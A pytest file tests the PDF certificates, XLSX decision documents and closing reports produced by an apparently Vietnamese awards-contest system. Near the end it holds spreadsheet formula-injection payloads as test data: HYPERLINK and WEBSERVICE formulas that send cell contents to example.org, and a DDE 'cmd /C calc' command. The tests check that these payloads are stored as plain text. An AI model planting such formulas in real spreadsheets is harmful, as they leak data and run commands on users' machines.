"""Documents: the PDFs carry Vietnamese text (read back with pypdf), the XLSX files open with
openpyxl with the right rows and amounts."""
import base64
import io
import zipfile

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from common.errors import Conflict, Forbidden, Invalid, NotFound
from services.awards import workflow
from services.awards.domain import documents, sets
from tests.services.awards.conftest import CONTEST, EXPERT, ORG, clip, ranking_row, unit_stat

HUONG = "Nguyễn Thị Hương"
ROWS = [
    ranking_row(1, "h", HUONG, "SNV", 20, "2023-06-01T10:00:00+00:00"),
    ranking_row(2, "b", "Trần Thị Bích", "STP", 19, "2023-06-01T10:01:00+00:00"),
    ranking_row(3, "d", "Đặng Văn Đức", "STC", 18, "2023-06-01T10:02:00+00:00"),
]


def decode(doc):
    return base64.b64decode(doc["content_b64"])


def pdf_text(data):
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


@pytest.fixture
def approved(db, upstream):
    upstream.rankings[1] = ROWS
    draft = workflow.compute_set(db, upstream, upstream, upstream, ORG, CONTEST, "weekly", 1)
    return db.run(sets.approve, ORG, draft["award_set_id"])


def test_certificate_names_the_winner(db, upstream, approved):
    doc = workflow.certificate(db, upstream, ORG, approved["award_set_id"], 1)
    assert doc["content_type"] == "application/pdf"
    assert doc["filename"].startswith("giấy-khen-") and doc["filename"].endswith("-1.pdf")
    text = pdf_text(decode(doc))
    assert "GIẤY KHEN" in text and "Giấy khen" in text
    assert HUONG in text
    assert "Giải Nhất" in text and "giải tuần thi thứ 1" in text
    assert "Đơn vị: Sở Nội vụ" in text
    archive = zipfile.ZipFile(io.BytesIO(decode(workflow.certificates_zip(db, upstream, ORG, approved["award_set_id"]))))
    assert len(archive.namelist()) == 3
    assert "Đặng Văn Đức" in pdf_text(archive.read(archive.namelist()[2]))
    with pytest.raises(NotFound):
        workflow.certificate(db, upstream, ORG, approved["award_set_id"], 4)
    with pytest.raises(Invalid):
        workflow.certificate(db, upstream, ORG, approved["award_set_id"], "1")
    with pytest.raises(Forbidden):
        workflow.certificate(db, upstream, EXPERT, approved["award_set_id"], 1)


def test_no_certificates_for_a_draft(db, upstream):
    upstream.rankings[1] = ROWS
    draft = workflow.compute_set(db, upstream, upstream, upstream, ORG, CONTEST, "weekly", 1)
    with pytest.raises(Conflict) as exc:
        workflow.certificate(db, upstream, ORG, draft["award_set_id"], 1)
    assert exc.value.code == "not_approved"
    # The decision of a draft is a draft: it says so.
    text = pdf_text(decode(workflow.decision_document(db, upstream, ORG, draft["award_set_id"], "pdf")))
    assert "DỰ THẢO" in text


def test_decision_pdf_and_xlsx(db, upstream, approved):
    doc = workflow.decision_document(db, upstream, ORG, approved["award_set_id"], "pdf")
    text = pdf_text(decode(doc))
    assert "QUYẾT ĐỊNH" in text and "Về việc phê duyệt kết quả giải tuần thi thứ 1" in text
    assert "Quyết định phê duyệt kết quả" in text
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in text and "Độc lập - Tự do - Hạnh phúc" in text
    assert HUONG in text and "4.500.000 đồng" in text and "DỰ THẢO" not in text

    doc = workflow.decision_document(db, upstream, ORG, approved["award_set_id"], "xlsx")
    assert doc["content_type"] == documents.XLSX and doc["filename"].endswith(".xlsx")
    book = load_workbook(io.BytesIO(decode(doc)))
    rows = list(book["Danh sách đoạt giải"].iter_rows(values_only=True))
    assert rows[4] == documents.HEADER
    assert [(r[0], r[1], r[2], r[3], r[5], r[8]) for r in rows[5:8]] == [
        (1, "Giải Nhất", HUONG, "Sở Nội vụ", "h", 2_000_000),
        (2, "Giải Nhì", "Trần Thị Bích", "Sở Tư pháp", "b", 1_500_000),
        (3, "Giải Ba", "Đặng Văn Đức", "Sở Tài chính", "d", 1_000_000),
    ]
    assert rows[8][1] == "Tổng cộng" and rows[8][8] == 4_500_000
    assert "Chi tiết xét giải" in book.sheetnames
    with pytest.raises(Invalid):
        workflow.decision_document(db, upstream, ORG, approved["award_set_id"], "docx")


def test_collective_and_video_documents(db, upstream):
    upstream.clips = {"complete": True, "pending": 0, "clips": [clip("v1", "SNV", 91.5, "2023-07-01T00:00:00+00:00", title="Một cửa thân thiện"),
                                                  clip("v2", "STP", 80.0, "2023-07-01T00:01:00+00:00")]}
    over = {"code": "over_headcount", "message": "Số người tham gia (12) nhiều hơn số CBCCVC đã khai báo (10)."}
    upstream.stats = [dict(unit_stat("SNV", 10, 10, 0.8), flags=[over]), unit_stat("STP", 10, 0, 0.0)]
    video = workflow.compute_set(db, upstream, upstream, upstream, ORG, CONTEST, "video")
    collective = workflow.compute_set(db, upstream, upstream, upstream, ORG, CONTEST, "collective")
    db.run(sets.approve, ORG, video["award_set_id"])
    db.run(sets.approve, ORG, collective["award_set_id"])
    text = pdf_text(decode(workflow.certificate(db, upstream, ORG, video["award_set_id"], 1)))
    assert "Tập thể Sở Nội vụ" in text and "Một cửa thân thiện" in text
    book = load_workbook(io.BytesIO(decode(workflow.decision_document(db, upstream, ORG, collective["award_set_id"], "xlsx"))))
    detail = list(book["Chi tiết xét giải"].iter_rows(values_only=True))
    by_unit = {r[1]: r for r in detail[2:]}
    assert by_unit["SNV"][11] == "Có" and by_unit["STP"][11] == "Không"
    assert "Không có người nào" in by_unit["STP"][12]
    # The headcount flag goes into the decision's table beside the figures it qualifies.
    assert detail[1][13] == "Lưu ý về số CBCCVC"
    assert by_unit["SNV"][13] == over["message"] and by_unit["STP"][13] in ("", None)


def test_closing_report(db, upstream, approved):
    upstream.rankings[2] = ROWS[:2]
    none = {"code": "no_headcount", "message": "Đơn vị chưa khai báo số CBCCVC."}
    upstream.stats = [unit_stat("SNV", 10, 1, 1.0), dict(unit_stat("STP", 0, 2, 0.9), flags=[none])]
    upstream.clips = {"complete": True, "pending": 0, "received": 3, "clips": [clip("v1", "SNV", 90, "2023-07-01T00:00:00+00:00")]}
    book = load_workbook(io.BytesIO(decode(workflow.report(db, upstream, upstream, upstream, ORG, CONTEST, "xlsx"))))
    rounds = list(book["Theo tuần"].iter_rows(values_only=True))
    assert rounds[1][:5] == (1, "Đã có kết quả chung cuộc", 3, 19.0, 20)
    assert rounds[2][:3] == (2, "Đã có kết quả chung cuộc", 2)
    assert rounds[3][5] == "Chưa có xếp hạng chung cuộc"
    dist = {r[0]: r[1:] for r in list(book["Phân bố điểm"].iter_rows(values_only=True))[1:]}
    assert dist[20][:2] == (1, 1) and dist[18][:2] == (1, 0) and dist[0][:2] == (0, 0)
    units = {r[0]: r for r in list(book["Theo đơn vị"].iter_rows(values_only=True))[1:]}
    assert units["STP"][7] == none["message"] and units["SNV"][7] in ("", None)
    clips = list(book["Video clip"].iter_rows(values_only=True))
    assert clips[0][:2] == ("Số video clip nhận được", 3) and clips[1][:2] == ("Số video clip được chấp nhận", 1)
    prizes = list(book["Giải thưởng"].iter_rows(values_only=True))
    assert (HUONG, 2_000_000) in [(r[3], r[5]) for r in prizes]
    assert prizes[-1][5] == 4_500_000
    text = pdf_text(decode(workflow.report(db, upstream, upstream, upstream, ORG, CONTEST, "pdf")))
    assert "BÁO CÁO TỔNG KẾT" in text and HUONG in text and "Phân bố điểm" in text
    with pytest.raises(Forbidden):
        workflow.report(db, upstream, upstream, upstream, EXPERT, CONTEST, "pdf")


# ---- formula injection: user text comes out as text ----------------------------------------------
EVIL_NAME = '=HYPERLINK("https://example.org/x?d="&A1,"Nguyễn Văn A")'
EVIL_UNIT = '=WEBSERVICE("https://example.org/"&B6)'
EVIL_TITLE = "=1+cmd|' /C calc'!A0"


def text_cells(data):
    """{value: data_type} of every string cell of every sheet, after asserting none is a formula."""
    book = load_workbook(io.BytesIO(data))
    cells = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    cells[cell.value] = cell.data_type
    return cells


def test_user_text_is_never_a_formula_in_any_spreadsheet(db, upstream):
    upstream.unit_list = [dict(u, name=EVIL_UNIT) if u["code"] == "STP" else u for u in upstream.unit_list]
    upstream.rankings[1] = [ranking_row(1, "evil", EVIL_NAME, "STP", 20, "2023-06-01T10:00:00+00:00")] + ROWS[1:]
    upstream.clips = {"complete": True, "pending": 0, "clips": [clip("v1", "STP", 91.5, "2023-07-01T00:00:00+00:00", title=EVIL_TITLE),
                                                  clip("v2", "SNV", 80.0, "2023-07-01T00:01:00+00:00")]}
    upstream.stats = [unit_stat("SNV", 10, 5, 0.8), unit_stat("STP", 10, 5, 0.9)]
    weekly = workflow.compute_set(db, upstream, upstream, upstream, ORG, CONTEST, "weekly", 1)
    video = workflow.compute_set(db, upstream, upstream, upstream, ORG, CONTEST, "video")
    collective = workflow.compute_set(db, upstream, upstream, upstream, ORG, CONTEST, "collective")
    exports = {kind: decode(workflow.decision_document(db, upstream, ORG, s["award_set_id"], "xlsx"))
               for kind, s in (("weekly", weekly), ("video", video), ("collective", collective))}
    exports["report"] = decode(workflow.report(db, upstream, upstream, upstream, ORG, CONTEST, "xlsx"))
    expected = {"weekly": [EVIL_NAME, EVIL_UNIT], "video": [EVIL_TITLE, EVIL_UNIT],
                "collective": [EVIL_UNIT], "report": [EVIL_NAME, EVIL_UNIT, EVIL_TITLE]}
    for kind, data in exports.items():
        cells = text_cells(data)
        for value in expected[kind]:
            found = [v for v in cells if value in v]
            assert found, (kind, value)
            assert all(cells[v] == "s" for v in found), (kind, value)


def test_control_characters_in_user_text_do_not_break_a_spreadsheet(db, upstream):
    upstream.rankings[1] = [ranking_row(1, "ctl", "Lê Văn\x01 Tư\x1b", "SNV", 20, "2023-06-01T10:00:00+00:00")]
    weekly = workflow.compute_set(db, upstream, upstream, upstream, ORG, CONTEST, "weekly", 1)
    cells = text_cells(decode(workflow.decision_document(db, upstream, ORG, weekly["award_set_id"], "xlsx")))
    assert "Lê Văn Tư" in cells
